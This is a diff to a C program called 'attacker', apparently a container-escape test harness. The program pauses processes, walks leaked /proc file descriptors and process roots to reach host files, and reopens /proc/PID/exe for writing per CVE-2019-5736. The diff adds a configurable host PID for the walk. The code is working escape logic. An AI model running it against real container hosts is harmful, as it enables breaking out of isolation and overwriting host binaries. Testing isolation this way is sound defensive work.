@@ -4,11 +4,12 @@
  * program) and, for each one:
  *   - stops it (SIGSTOP) to look at it calmly, then lets it go on (SIGCONT);
  *   - lists its fds:                        "fd PID N TYPE LINK"
- *   - tries to walk to the host through them and through its root (CVE-like: a host /proc
- *     fd gives /proc/1/fd/N/1/root/...):    "WALK PID HOW" on success
+ *   - tries to walk to the host through them and through its root (a host /proc fd gives
+ *     /proc/PID/fd/N/HOSTPID/root/...):     "WALK PID HOW" on success
  *   - opens /proc/PID/exe and, once the process has exec'd or is gone, reopens that for
  *     writing and appends (CVE-2019-5736):  "write PID ok" or "write PID ERRNO-NAME"
- * usage: attacker LOG HOSTPATH STOPFILE SECONDS. HOSTPATH: a host file outside the rootfs.
+ * usage: attacker LOG HOSTPATH HOSTPID STOPFILE SECONDS. HOSTPATH: a host file outside the
+ * rootfs; HOSTPID: a host process whose root is the host's (as seen in the host's /proc).
  * STOPFILE: once it exists, the pending writes are tried one last time and it ends ("done").
  */
 #define _GNU_SOURCE
@@ -25,7 +26,7 @@
 
 #define MAX 64
 static FILE *out;
-static const char *hostpath;
+static const char *hostpath, *hostpid;
 static struct { int pid, fd, done; char exe[256]; } seen[MAX];
 static int nseen;
 
@@ -46,8 +47,8 @@ static const char *type_of(mode_t m) {
 static void try_walk(int pid, const char *base, const char *how) {
     char p[4096];
     struct stat st;
-    snprintf(p, sizeof p, "%s/1/root%s", base, hostpath);
-    if (stat(p, &st) == 0) fprintf(out, "WALK %d %s/1/root\n", pid, how);
+    snprintf(p, sizeof p, "%s/%s/root%s", base, hostpid, hostpath);
+    if (stat(p, &st) == 0) fprintf(out, "WALK %d %s/%s/root\n", pid, how, hostpid);
     snprintf(p, sizeof p, "%s%s", base, hostpath);
     if (stat(p, &st) == 0) fprintf(out, "WALK %d %s\n", pid, how);
 }
@@ -127,16 +128,17 @@ static void try_writes(int last) {
 }
 
 int main(int argc, char **argv) {
-    if (argc != 5) return 2;
+    if (argc != 6) return 2;
     out = fopen(argv[1], "w");
     if (!out) return 3;
     hostpath = argv[2];
+    hostpid = argv[3];
     char self[256];
     exe_of(getpid(), self, sizeof self);
     fprintf(out, "started\n");
     fflush(out);
-    time_t end = time(NULL) + atoi(argv[4]);
-    while (time(NULL) < end && access(argv[3], F_OK) != 0) {
+    time_t end = time(NULL) + atoi(argv[5]);
+    while (time(NULL) < end && access(argv[4], F_OK) != 0) {
         DIR *d = opendir("/proc");
         struct dirent *e;
         while (d && (e = readdir(d))) {
